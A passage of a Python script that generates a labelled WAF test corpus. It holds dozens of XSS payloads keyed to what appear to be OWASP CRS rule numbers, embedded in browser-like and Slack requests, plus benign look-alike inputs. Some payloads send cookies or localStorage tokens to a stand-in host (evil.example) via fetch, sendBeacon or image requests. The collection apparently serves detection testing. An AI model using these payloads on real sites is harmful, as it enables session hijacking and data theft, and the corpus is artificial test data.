        "<xss:vmlframe src=\"data:text/xml,x\"></xss:vmlframe>",
        "<V:VMLFRAME SRC=\"x.vml#a\">",
        "<v:vmlframe id=a src=\"javascript:alert(1)\">",
        "<html xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:vmlframe src=x.vml>",
        "<v:vmlframe/src=//evil.example/c.vml>",
        "<v:vmlframe+src=x.vml>",
    ]),
    ("ie-obfuscated-javascript", [  # 941210
        "j&#x61;vascript:alert(1)",
        "&#x6A;avascript:alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "javas&#99;ript:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "jav&#x0A;ascript:alert(1)",
        "&#0000106avascript:alert(1)",
        "java\tscript:alert(1)",
        "<a href=\"ja&#x76;ascript&colon;alert(1)\">x</a>",
        "JaVa&#x53;cRiPt:alert(1)",
        "j\\u0061vascript:alert(1)",
    ]),
    ("ie-obfuscated-vbscript", [  # 941220
        "vbscript:msgbox(1)",
        "v&#98;script:msgbox(1)",
        "&#x76;bscript:msgbox(1)",
        "vbs&#99;ript:msgbox(\"x\")",
        "VbScRiPt:MsgBox(1)",
        "vb\tscript:msgbox(1)",
        "<a href=\"vbscript&colon;msgbox(1)\">x</a>",
        "&#118;&#98;&#115;&#99;&#114;&#105;&#112;&#116;:msgbox(1)",
        "vbscr&#x69;pt:execute(\"msgbox 1\")",
        "<img src=\"vbscript:msgbox(document.cookie)\">",
    ]),
    ("ie-embed", [  # 941230
        "<embed src=\"https://evil.example/x.swf\">",
        "<EMBED type=\"image/svg+xml\" src=x.svg>",
        "<embed\tsrc=data:image/svg+xml,x>",
        "<embed/src=//evil.example/y.swf>",
        "<EmBeD code=x.class>",
        "<embed allowscriptaccess=always src=x.swf>",
        "<embed+type=text/html src=//evil.example>",
        "<embed height=1 width=1 src=\"javascript:alert(1)\">",
        "<embed\nsrc=x>",
        "<EMBED SRC=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    ]),
    ("ie-import-implementation", [  # 941240
        "<?import namespace=\"t\" implementation=\"#default#time2\">",
        "<import implementation=\"#default#time2\">",
        "<IMPORT IMPLEMENTATION=\"x.htc\">",
        "<?import\timplementation=\"//evil.example/x.htc\">",
        "<import/implementation=x.htc>",
        "<?IMPORT namespace=x IMPLEMENTATION=\"#default#VML\">",
        "<import+implementation=y.htc>",
        "<?import implementation = \"#default#userData\">",
        "<html><?import namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName=innerHTML to=x>",
    ]),
    ("ie-meta-http-equiv", [  # 941250
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<META HTTP-EQUIV=\"Content-Type\" content=\"text/html; charset=UTF-7\">",
        "<meta http-equiv=\"Set-Cookie\" content=\"session=attacker\">",
        "<meta\thttp-equiv=refresh content=0;url=//evil.example>",
        "<meta http-equiv = 'refresh' content='1'>",
        "<MeTa HtTp-EqUiV=ReFrEsH CoNtEnT=0>",
        "<meta/http-equiv=\"refresh\"/content=\"0;url=//evil.example\">",
        "<meta name=x http-equiv=\"content-type\" content=\"text/html;charset=utf-7\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg\">",
        "<meta+http-equiv=refresh+content=0>",
    ]),
    ("ie-meta-charset", [  # 941260
        "<meta charset=\"UTF-7\">",
        "<META CHARSET=utf-7>",
        "<meta\tcharset=x-user-defined>",
        "<meta content=\"text/html\" charset=\"ISO-2022-JP\">",
        "<meta charset = 'utf-16'>",
        "<meta/charset=utf-7>",
        "<MeTa ChArSeT=\"shift_jis\">",
        "<meta name=x charset=\"UTF-7\"/>",
        "<meta+charset=gb18030>",
        "<meta\ncharset=utf-7>",
    ]),
    ("ie-link-href", [  # 941270
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<LINK REL=import HREF=\"//evil.example/x.html\">",
        "<link\thref=javascript:alert(1) rel=stylesheet>",
        "<link/rel=stylesheet/href=//evil.example/a.css>",
        "<link rel=preload as=script href=//evil.example/p.js>",
        "<LiNk HrEf=\"data:text/css,*{x:expression(alert(1))}\">",
        "<link href = \"//evil.example\" rel=prefetch>",
        "<link rel=\"icon\" href=\"javascript:alert(1)\">",
        "<link+href=//evil.example/c.css>",
        "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
    ]),
    ("ie-base-href", [  # 941280
        "<base href=\"https://evil.example/\">",
        "<BASE HREF=\"javascript:alert(1)//\">",
        "<base\thref=//evil.example/>",
        "<base/href=//evil.example/>",
        "<BaSe target=_top href=\"//evil.example\">",
        "<base href = 'https://evil.example/static/'>",
        "<base+href=//evil.example>",
        "<base\nhref=\"//evil.example/\">",
        "\"><base href=//evil.example/>",
        "<base href=\"data:text/html,x\">",
    ]),
    ("ie-applet", [  # 941290
        "<applet code=\"Exploit.class\" codebase=\"https://evil.example/\"></applet>",
        "<APPLET CODE=x.class>",
        "<applet\tarchive=x.jar code=X>",
        "<applet/code=x.class>",
        "<ApPlEt>",
        "<applet+code=y.class>",
        "<applet code=\"javascript:alert(1)\"></applet>",
        "\"><applet code=X.class width=0 height=0>",
        "<applet\ncode=X>",
        "<applet object=\"x.ser\">",
    ]),
    ("ie-object", [  # 941300
        "<object type=\"text/x-scriptlet\" data=\"https://evil.example/x.sct\"></object>",
        "<OBJECT CLASSID=\"clsid:D27CDB6E-AE6D-11cf-96B8-444553540000\">",
        "<object codetype=\"application/java\" code=X.class>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<object\tdata=//evil.example/x.swf>",
        "<object/type=text/html/data=//evil.example>",
        "<ObJeCt DaTa=\"javascript:alert(1)\">",
        "<object classid = \"clsid:333C7BC4-460F-11D0-BC04-0080C7055A83\">",
        "<object+data=x.svg>",
        "<object width=1 code=\"x.class\">",
    ]),
    ("us-ascii-malformed", [  # 941310
        "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be",
        "\u00bcimg src=x onerror=alert(1)\u00be",
        "\u00bcsvg onload=alert(1)\u00be",
        "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
        "\u00bciframe src=javascript:alert(1)\u00be",
        "\u00bcSCRIPT\u00beconfirm(1)\u00bc/SCRIPT\u00be",
        "\u00a2\u00be\u00bcscript\u00bealert(1)\u00bc/script\u00be",
        "\u00bcbody onload=alert(1)\u00be",
        "x\u00bcscript src=//evil.example/x.js\u00be\u00bc/script\u00be",
        "\u00bca href=\u00a2javascript:alert(1)\u00a2\u00bex\u00bc/a\u00be",
    ]),
    ("utf7-encoding", [  # 941350
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-img src=x onerror=alert(1)+AD4-",
        "+ACIAPgA8-script+AD4-alert(1)+ADw-/script+AD4-",
        "+adw-script+ad4-alert(1)+adw-/script+ad4-",
        "+ADw-svg onload=alert(1)+AD4-",
        "+ADwAcwBjAHIAaQBwAHQAPg-alert(1)+ADwALwBzAGMAcgBpAHAAdAA+-",
        "x+ACI- onmouseover+AD0AIg-alert(1)",
        "+ADw-iframe src+AD0-javascript:alert(1)+AD4-",
        "+ADw-SCRIPT+AD4-document.location+AD0-'//evil.example'+ADw-/SCRIPT+AD4-",
        "+ADw-a href+AD0AIg-javascript:alert(1)+ACI-+AD4-x+ADw-/a+AD4-",
    ]),
    ("jsfuck-hieroglyphy", [  # 941360
        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
        "(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]",
        "[][[]]+[]",
        "(+{}+[])[+!![]]",
        "[]+{}",
        "+!+[]+!+[]",
        "(!![]+[])[+[]]+(!![]+[])[+!+[]]",
        "$=~[];$={___:++$,$$$$:(![]+\"\")[$]};",
        "[+!+[]]+[+[]]",
        "({}+[])[!+[]+!+[]+!+[]]",
        "(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]",
        "[][(![]+[])[+[]]][([][(![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]]",
    ]),
    ("js-global-variable", [  # 941370
        "window[\"alert\"](1)",
        "self['ale'+'rt'](1)",
        "this['al'+'ert'](document.domain)",
        "top[\"eval\"](\"alert(1)\")",
        "parent['location']='//evil.example'",
        "globalThis['fetch']('//evil.example')",
        "frames['alert'](1)",
        "window [ 'document' ] [ 'cookie' ]",
        "document['cookie']",
        "self[/*x*/'alert'](1)",
        "top/**/['alert'](1)",
        "window[atob('YWxlcnQ=')](1)",
    ]),
    ("libinjection-xss-pl2", [  # 941101
        "<img src=x:alert(1) onerror=eval(src)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<audio src onerror=alert(1)>",
        "<object data=javascript:alert(1)>",
        "<iframe/onload=alert(1)>",
        "<input onblur=alert(1) autofocus><input autofocus>",
        "<textarea autofocus onfocus=alert(1)>",
        "\"><svg/onload=confirm(1)>",
        "<a href=javascript&colon;alert(1)>x</a>",
        "<select onchange=alert(1)><option>1</option></select>",
        "<keygen autofocus onfocus=alert(1)>",
        "<BODY ONRESIZE=alert(1)>",
    ]),
    ("disallowed-attributes", [  # 941150
        "<p style=\"color:red;font-size:99px\">hi</p>",
        "<img src=\"https://evil.example/p.gif\">",
        "<a href=\"https://evil.example\">click</a>",
        "x\" style=\"position:fixed;top:0;left:0;width:100%;height:100%",
        "src = //evil.example/x",
        "\" href=//evil.example x=\"",
        "STYLE=display:none",
        "<div style=background-image:url(//evil.example/t)>",
        "<iframe src=//evil.example>",
        "<img dynsrc=x lowsrc=y>",
        "<image src\t=\tx>",
        "<a HrEf = 'https://evil.example'>",
    ]),
    ("html-tag-handler", [  # 941320
        "<b>bold</b>",
        "<marquee>hi</marquee>",
        "<form action=//evil.example method=post>",
        "<input type=hidden name=role value=admin>",
        "<textarea>",
        "<table background=x>",
        "<bgsound src=x.wav>",
        "<xmp><script>alert(1)</script></xmp>",
        "<plaintext>",
        "<select autofocus>",
        "<h1>Hacked</h1>",
        "<blink>x</blink>",
    ]),
    ("ie-quote-property-assign", [  # 941330
        "\";location='//evil.example';//",
        "'+name='x",
        "\";onerror=alert;throw 1;//",
        "\"-valueOf=alert;//",
        "' in location='//evil.example",
        "\";name=document.cookie;//",
        "'|location='javascript:alert(1)'",
        "\"; window.location = \"//evil.example\"; \"",
        "';\\u006Cocation='//evil.example';//",
        "\"&&(onerror=alert)//",
        "'^top.location='//evil.example'//",
    ]),
    ("ie-quote-dotted-assign", [  # 941340
        "\";document.body.innerHTML='x';//",
        "'+document.title='x'+'",
        "\";top.location.href='//evil.example';//",
        "';window.name='x';//",
        "\"-document.domain='x'-\"",
        "' in a.b='c",
        "\";self.location.hash='x';//",
        "'|document.cookie='a=b'|'",
        "\";x.y.z=1;//",
        "'^parent.document.body.outerHTML='x'^'",
        "\"; navigator.x = 1; \"",
    ]),
    ("angularjs-csti", [  # 941380
        "{{constructor.constructor('alert(1)')()}}",
        "{{7*7}}",
        "{{$on.constructor('alert(1)')()}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
        "{{toString().constructor.prototype.charAt=[].join}}",
        "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
        "{{$eval.constructor('alert(1)')()}}",
        "{{[].pop.constructor('alert(1)')()}}",
        "<div ng-app ng-csp>{{$event.view.alert(1)}}</div>",
        "{{ constructor.constructor ( \"alert(1)\" ) ( ) }}",
        "{{_c.constructor('alert(1)')()}}",
        "{{a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,"
        "0,'alert(1)')()}}",
    ]),
    # CRS 4.x titles (wording approximate)
    ("js-method", [
        "alert.call(null,1)",
        "window.alert.apply(null,[1])",
        "eval.bind(window)('alert(1)')",
        "location.assign('//evil.example')",
        "location.replace('javascript:alert(1)')",
        "fetch('//evil.example/?c='+document.cookie)",
        "navigator.sendBeacon('//evil.example',localStorage.getItem('token'))",
        "String.fromCharCode(97,108,101,114,116)",
        "atob('YWxlcnQoMSk=')",
        "setTimeout('alert(1)',0)",
        "document.createElement('script').src='//evil.example/x.js'",
        "new Image().src='//evil.example/?'+document.cookie",
    ]),
    ("js-without-parentheses", [
        "alert`1`",
        "onerror=alert;throw 1",
        "location='javascript:alert%281%29'",
        "setTimeout`alert\\x281\\x29`",
        "throw onerror=eval,'=alert\\x281\\x29'",
        "[1].find(alert)",
        "{onerror=alert}throw 1",
        "top.alert`1`",
        "<img src=x onerror=alert`1`>",
        "valueOf=alert;window+''",
        "location=name",
        "Function`x${'alert\\x281\\x29'}`",
    ]),
]

CATEGORIES: list[tuple[str, list[tuple[str, list[str]]]]] = [("sqli", SQLI), ("xss", XSS)]
LATIN1_SUBS = {"us-ascii-malformed"}   # percent-encoded as Latin-1 bytes, as the attack is sent
MONGO_SUBS = {"mongodb-injection"}     # bracket operators go into the parameter name, objects stay objects

# --------------------------------------------------------------------------------------------------------------
# Browser-like request pieces
# --------------------------------------------------------------------------------------------------------------
CHROME_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 " \
            "Safari/537.36"
BROWSERS: list[tuple[str, dict[str, str]]] = [
    (CHROME_UA, {"sec-ch-ua": "\"Not/A)Brand\";v=\"8\", \"Chromium\";v=\"126\", \"Google Chrome\";v=\"126\"",
                 "sec-ch-ua-mobile": "?0", "sec-ch-ua-platform": "\"Windows\""}),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0", {}),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
     "Safari/605.1.15", {}),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
     "Safari/537.36 Edg/126.0.2592.87",
     {"sec-ch-ua": "\"Not/A)Brand\";v=\"8\", \"Chromium\";v=\"126\", \"Microsoft Edge\";v=\"126\"",
      "sec-ch-ua-mobile": "?0", "sec-ch-ua-platform": "\"Windows\""}),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.0.0 "
     "Safari/537.36",
     {"sec-ch-ua": "\"Not)A;Brand\";v=\"99\", \"Google Chrome\";v=\"127\", \"Chromium\";v=\"127\"",
      "sec-ch-ua-mobile": "?0", "sec-ch-ua-platform": "\"macOS\""}),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:129.0) Gecko/20100101 Firefox/129.0", {}),
]
LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "en-US,en;q=0.5", "fr-FR,fr;q=0.9,en;q=0.7"]
CONSENTS = ["cookie_consent=accepted", "consent=necessary%2Canalytics", "cookie_consent=essential",
            "CookieConsent=true", "consent=all"]
APP_PAGES = ["/admin/users", "/admin/users/search", "/directory", "/people", "/settings/profile", "/dashboard",
             "/admin/audit", "/teams/engineering"]
SLACK_UA = "Slackbot 1.0 (+https://api.slack.com/robots)"
SLACK_LEADS = ["lookup user ", "ticket title: ", "hey bot, ", "search ", "find customer ", "whois ", "status of ",
               "please add a note: "]
JSON_FIELDS = ["name", "email", "bio", "title", "department", "location", "company", "nickname"]
SETTINGS_FIELDS = ["display_name", "status_text", "signature", "location"]
PATCH_FIELDS = ["bio", "title", "display_name", "department"]
COOKIE_NAMES = ["last_search", "recent_query", "ui_filter", "ref"]
FIRST = ["Ann", "Bilal", "Chen", "Dana", "Eero", "Fatima", "Gus", "Hana", "Ivan", "Jo", "Kofi", "Lena", "Mateo",
         "Nora", "Omar", "Priya", "Quinn", "Rosa", "Sven", "Tomoko"]
LAST = ["Lindqvist", "Okafor", "Wang", "Schmidt", "Novak", "Haddad", "Reyes", "Kowalski", "Tanaka", "Dubois",
        "Mensah", "Rossi", "Patel", "Nguyen", "Silva"]
TITLES = ["Engineer", "Product Manager", "Designer", "Support Lead", "Data Analyst", "Accountant", "Recruiter",
          "SRE", "Sales Director", "Office Manager"]
DEPTS = ["Engineering", "Finance", "Sales", "Support", "People Ops", "Marketing", "Legal", "Platform"]
CITIES = ["Berlin", "Lagos", "Toronto", "Lisbon", "Osaka", "Austin", "Nairobi", "Warsaw", "Lyon", "Pune"]


class Builder:
    """Seeded pieces of browser and Slack requests."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)

    def pick(self, seq: list[Any]) -> Any:
        return self.rng.choice(seq)

    def token(self, nbytes: int = 24) -> str:
        return b64url(self.rng.randbytes(nbytes))

    def hexs(self, n: int) -> str:
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))

    def cookie(self) -> str:
        return f"session={self.token()}; {self.pick(CONSENTS)}"

    def browser(self, kind: str, ua: str | None = None) -> dict[str, str]:
        """The headers a current browser sends: kind "api" (the app's fetch), "form" (a form post) or "nav"."""
        base_ua, hints = self.pick(BROWSERS)
        h: dict[str, str] = {"User-Agent": ua if ua is not None else base_ua}
        if ua is None:
            h.update(hints)
        if kind == "form":
            h["Accept"] = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
        else:
            h["Accept"] = "application/json, text/plain, */*"
        h["Accept-Language"] = self.pick(LANGS)
        h["Accept-Encoding"] = "gzip, deflate, br, zstd"
        h["Referer"] = "https://app.example.com" + self.pick(APP_PAGES)
        if kind == "form":
            h.update({"Origin": "https://app.example.com", "Content-Type": "application/x-www-form-urlencoded",
                      "Sec-Fetch-Dest": "document", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Site": "same-site",
                      "Sec-Fetch-User": "?1", "Upgrade-Insecure-Requests": "1"})
        else:
            h.update({"Sec-Fetch-Dest": "empty", "Sec-Fetch-Mode": "cors", "Sec-Fetch-Site": "same-site"})
        h["Cookie"] = self.cookie()
        return h

    def json_headers(self, method_kind: str = "api") -> dict[str, str]:
        h = self.browser(method_kind)
        h["Content-Type"] = "application/json"
        h["Origin"] = "https://app.example.com"
        h["X-CSRF-Token"] = self.token(18)
        return h

    def person(self) -> dict[str, Any]:
        first, last = self.pick(FIRST), self.pick(LAST)
        return {"name": f"{first} {last}", "email": f"{first.lower()}.{last.lower()}@example.com",
                "title": self.pick(TITLES), "department": self.pick(DEPTS), "location": self.pick(CITIES)}

    def slack(self, text: str, n: int, mention: bool) -> dict[str, Any]:
        epoch = 1719400000 + 37 * n
        ts = f"{epoch}.{self.rng.randrange(100000, 999999)}"
        event: dict[str, Any] = {"type": "app_mention" if mention else "message",
                                 "user": "U0" + self.token(6).upper().replace("-", "X").replace("_", "Y")[:8],
                                 "text": ("<@U07BOT1234> " if mention else "") + text, "ts": ts,
                                 "channel": "C0" + self.hexs(9).upper(), "event_ts": ts}
        body = {"token": "Jhj5dZrVaK7ZwHHjRyZWjbDl", "team_id": "T061EG9R6", "api_app_id": "A0PNCHHK2",
                "event": event, "type": "event_callback", "event_id": "Ev0" + self.hexs(9).upper(),
                "event_time": epoch}
        headers = {"User-Agent": SLACK_UA, "Accept": "*/*", "Accept-Encoding": "gzip,deflate",
                   "Content-Type": "application/json", "X-Slack-Request-Timestamp": str(epoch),
                   "X-Slack-Signature": "v0=" + self.hexs(64)}
        return {"method": "POST", "uri": "/slack/events", "body": json.dumps(body, ensure_ascii=False),
                "headers": headers}


def enc_component(value: str, plus: bool, encoding: str = "utf-8") -> str:
    """A value as a browser puts it in a query string or form body: URLSearchParams (plus) or
    encodeURIComponent."""
    if plus:
        return urllib.parse.quote_plus(value, safe="*", encoding=encoding)
    return urllib.parse.quote(value, safe="!'()*~", encoding=encoding)


def enc_segment(value: str, encoding: str = "utf-8") -> str:
    """A value as one path segment (`/`, `?`, `#`, space, `%` and the unsafe characters escaped)."""
    return urllib.parse.quote(value, safe="!$&'()*+,;=:@~", encoding=encoding)


def header_safe(value: str) -> str:
    return value.replace("\r", " ").replace("\n", " ").replace("\0", "")


def mongo_name(payload: str) -> tuple[str, str] | None:
    """A bracket-operator payload (`[$ne]=x`) split into the name suffix and the value."""
    if payload.startswith("[") and "]=" in payload:
        cut = payload.rindex("]=") + 1
        return payload[:cut], payload[cut + 1:]
    return None


def json_value(sub: str, payload: str) -> Any:
    if sub in MONGO_SUBS and payload.startswith("{"):
        try:
            return json.loads(payload)
        except ValueError:
            return payload
    return payload


class Placer:
    """Puts one value into one of the six places."""

    def __init__(self, b: Builder) -> None:
        self.b = b
        self.n = 0

    def query(self, value: str, sub: str = "", latin1: bool = False) -> dict[str, Any]:
        b = self.b
        self.n += 1
        plus = self.n % 2 == 0
        encoding = "latin-1" if latin1 else "utf-8"
        split = mongo_name(value) if sub in MONGO_SUBS else None
        if split:
            q = "q" + urllib.parse.quote(split[0], safe="") + "=" + enc_component(split[1], plus)
        else:
            q = "q=" + enc_component(value, plus, encoding)
        parts = [q, f"page={b.rng.randrange(1, 9)}", f"per_page={b.pick([20, 50, 100])}"]
        b.rng.shuffle(parts)
        return {"method": "GET", "uri": "/api/users?" + "&".join(parts), "body": "", "headers": b.browser("api")}

    def form(self, value: str, sub: str = "", latin1: bool = False, uri: str = "/admin/users/search",
             field: str = "q") -> dict[str, Any]:
        b = self.b
        encoding = "latin-1" if latin1 else "utf-8"
        split = mongo_name(value) if sub in MONGO_SUBS else None
        if split:
            pair = field + urllib.parse.quote(split[0], safe="") + "=" + enc_component(split[1], True)
        else:
            pair = field + "=" + enc_component(value, True, encoding)
        fields = ["csrf_token=" + b.token(), pair]
        if uri == "/me/settings":
            fields += ["timezone=" + urllib.parse.quote("Europe/Berlin", safe=""), "locale=en-US"]
        return {"method": "POST", "uri": uri, "body": "&".join(fields), "headers": b.browser("form")}

    def json_api(self, value: Any, field: str, method: str = "POST", uri: str = "/api/users") -> dict[str, Any]:
        b = self.b
        doc: dict[str, Any] = b.person()
        doc[field] = value
        if method == "PATCH":
            doc = {field: value, "updated_by": doc["email"]}
        return {"method": method, "uri": uri, "body": json.dumps(doc, ensure_ascii=False),
                "headers": b.json_headers()}

    def path(self, value: str, latin1: bool = False) -> dict[str, Any]:
        b = self.b
        self.n += 1
        base = "/api/users/" if self.n % 3 else "/api/"
        return {"method": "GET", "uri": base + enc_segment(value, "latin-1" if latin1 else "utf-8"), "body": "",
                "headers": b.browser("api")}

    def header(self, value: str, which: str) -> dict[str, Any]:
        b = self.b
        uri = f"/api/users?page={b.rng.randrange(1, 6)}&per_page={b.pick([20, 50, 100])}"
        if which == "User-Agent":
            h = b.browser("api", ua=header_safe(value))
        elif which == "Referer":
            h = b.browser("api")
            h["Referer"] = header_safe(value)
        else:
            h = b.browser("api")
            h["Cookie"] += f"; {which}=" + urllib.parse.quote(value, safe="")
        return {"method": "GET", "uri": uri, "body": "", "headers": h}


BASE_PLACES = ["query", "form", "json", "path", "header"]


def schedule(t: int, k: int) -> list[str]:
    """Where the k payloads of the t-th title go: the five places rotating, one or two of them the /api/users/42
    or /me/settings variant ("alt")."""
    alts = {(3 * t + 1) % k}
    if t % 3 == 0:
        alts.add((3 * t + 1 + k // 2) % k)
    out: list[str] = []
    j = t
    for i in range(k):
        if i in alts:
            out.append("alt")
        else:
            out.append(BASE_PLACES[j % len(BASE_PLACES)])
            j += 1
    return out


def attacks() -> Iterator[dict[str, Any]]:
    b = Builder(70)
    p = Placer(b)
    n = 0
    t = 0
    hdr = 0
    for category, titles in CATEGORIES:
        for sub, payloads in titles:
            latin1 = sub in LATIN1_SUBS
            for i, (payload, place) in enumerate(zip(payloads, schedule(t, len(payloads)), strict=True)):
                n += 1
                sent = payload
                if place == "query":
                    rec, placement = p.query(payload, sub, latin1), "query"
                elif place == "form":
                    rec, placement = p.form(payload, sub, latin1), "form"
                elif place == "json":
                    if (n + t) % 2:
                        field = JSON_FIELDS[(n // 2) % len(JSON_FIELDS)]
                        rec = p.json_api(json_value(sub, payload), field)
                    else:
                        lead = SLACK_LEADS[n % len(SLACK_LEADS)]
                        rec = b.slack(lead + payload, n, mention=n % 3 == 0)
                    placement = "json"
                elif place == "path":
                    rec, placement = p.path(payload, latin1), "path"
                elif place == "header":
                    hdr += 1
                    which = ["User-Agent", "User-Agent", "Referer", "User-Agent",
                             COOKIE_NAMES[hdr % len(COOKIE_NAMES)]][hdr % 5]
                    rec = p.header(payload, which)
                    placement = "cookie" if which in COOKIE_NAMES else "header:" + which
                    if placement != "cookie":
                        sent = header_safe(payload)
                elif (n + i) % 2:
                    field = PATCH_FIELDS[n % len(PATCH_FIELDS)]
                    rec, placement = p.json_api(json_value(sub, payload), field, "PATCH", "/api/users/42"), "json"
                else:
                    field = SETTINGS_FIELDS[n % len(SETTINGS_FIELDS)]
                    rec = p.form(payload, sub, latin1, "/me/settings", field)
                    placement = "form"
                yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": placement, "payload": sent}
            t += 1

# --------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently, in the same six places
# --------------------------------------------------------------------------------------------------------------
SEARCHES = [
    "O'Brien", "D'Angelo Marketing", "Sarah O'Connor", "jean-luc", "Müller", "José García", "Zoë Saldaña",
    "select committee minutes", "union square office", "order by date", "sleep study results",
    "benchmark report q3", "drop off location", "insert molding supplier", "delete my account",
    "update billing address", "where is my order", "table tennis club", "script supervisor", "alert fatigue",
    "cookie policy", "window cleaning contract", "document review", "style guide v2", "character set",
    "match day tickets", "merge conflict help", "execute the plan", "case study healthcare",
    "null hypothesis", "wait for approval", "shutdown procedure", "delay notification", "version 3.2.1",
    "user research", "admin assistant", "having issues with login", "group by region", "limit increase request",
    "between 10 and 20", "like button not working", "or else", "and then some", "1 + 1", "100% cotton",
    "R&D team", "Q&A session", "AT&T", "Procter & Gamble", "C# developer", "C++ engineer", ".NET core",
    "node.js", "react hooks", "vue 3", "angular 17", "javascript tutorial", "typescript generics",
    "html email templates", "css grid", "iframe embed", "onboarding checklist", "on-call rotation",
    "load balancer", "file share", "mysql dba", "postgres dba", "mongodb atlas", "sql server 2019",
    "oracle license", "sqlite", "information security", "master data management", "sys admin", "exec summary",
    "xp pen tablet", "hex key set", "char siu", "sleepy hollow", "bench press", "wait staff",
    "O'Reilly media", "it's", "can't login", "john@example.com", "+1 (555) 010-0199", "10 Downing St",
    "5th Ave & 42nd St", "apt #4B", "50% off", "$100 - $200", "rock 'n' roll", "\"quoted search\"",
    "error: 500", "foo_bar", "x-ray", "t-shirt", "back-end", "--verbose flag", "#general channel", "@here",
    "smith; jones", "(555) 010-0100", "1/2 price", "a < b", "3 > 2", "C:\\Users\\ann", "~/projects",
    "[draft] q3 plan", "{team} template", "Tom & Jerry", "L'Oréal", "N'Djamena", "Côte d'Ivoire",
    "she said \"hi\"", "ticket #4521", "status: done", "priority = high", "alpha/beta", "2024-06-30",
    "Ann-Marie Lee", "O'Neil, Shaquille", "Hawai'i office", "version 2.2250738", "chr 7", "from: Berlin",
]
CHAT = [
    "hey bot, lookup user O'Brien",
    "ticket title: login page shows blank after update",
    "the select dropdown on the settings page is broken in Safari",
    "we ran the benchmark again, sleep mode on the laptops was off this time",
    "can someone merge my PR? it's the union of both branches",
    "use ORDER BY created_at DESC in the report, otherwise the newest rows end up last",
    "the script tag in the email template got stripped, which is what we want",
    "document.cookie can't read the session anymore since it's httpOnly, nice",
    "alert: disk usage at 91% on db-2",
    "the onload handler fires twice in Chrome, anyone seen that?",
    "javascript: links are blocked by our CSP now",
    "please don't drop the staging table before Friday",
    "I'll update the wiki and delete the old page",
    "insert a row for the new office in the sheet please",
    "where did the Q3 numbers go? can't find them in the drive",
    "the union meeting is at 3pm in room 4",
    "select your lunch option by noon: pasta, salad or curry",
    "I'm going to sleep on it and decide tomorrow",
    "waiting for delay confirmation from the airline",
    "server shutdown scheduled for Saturday 02:00 UTC",
    "the match against Ajax is on Sunday, who's coming?",
    "execute immediately: rotate the on-call schedule",
    "case closed, the customer confirmed the fix",
    "if it works in staging, ship it",
    "null pointer in the export job again, looking",
    "the ascii art in the README is broken on GitHub",
    "hex colors for the new brand: #1A2B3C and #FFCC00",
    "char limit on bios is 280 now",
    "can you version the API docs before the release?",
    "information desk is on the ground floor",
    "master branch is renamed to main, update your remotes",
    "sys admins meeting moved to Thursday",
    "exec team offsite is in Lisbon",
    "sp500 is up 2% today, not that it matters for us",
    "the backtick key on my keyboard is stuck",
    "O'Connor and D'Souza joined the support team today 🎉",
    "Müller's team owns the billing service",
    "the new hire is José, say hi!",
    "meeting notes: 1) budget 2) hiring 3) offsite",
    "price went from $20 to $25 (25% up)",
    "R&D and Q&A sessions are both recorded",
    "the window in meeting room 2 doesn't close",
    "document the style guide changes in Confluence",
    "frame rate drops in the iframe embed on Firefox",
    "the body text is too small on mobile",
    "form submit button is grey, should be blue",
    "input validation for phone numbers rejects +44",
    "table layout breaks on narrow screens",
    "the object storage bucket is almost full",
    "embed the video from the all-hands in the wiki",
    "base URL for the sandbox is https://sandbox.example.com",
    "link to the doc: https://docs.example.com/guides/onboarding",
    "meta: this channel is for deploy announcements only",
    "the applet era is long gone, thankfully",
    "style sheet for print is missing the logo",
    "import the contacts from the CSV, then dedupe",
    "the embed code for the map is in the Slack canvas",
    "anyone else get logged out after the SSO change?",
    "the charset on the export is UTF-8, Excel still mangles it",
    "I typed 1=1 in the calculator app and it said true lol",
    "shutdown -h now is not how we restart prod, please use the runbook",
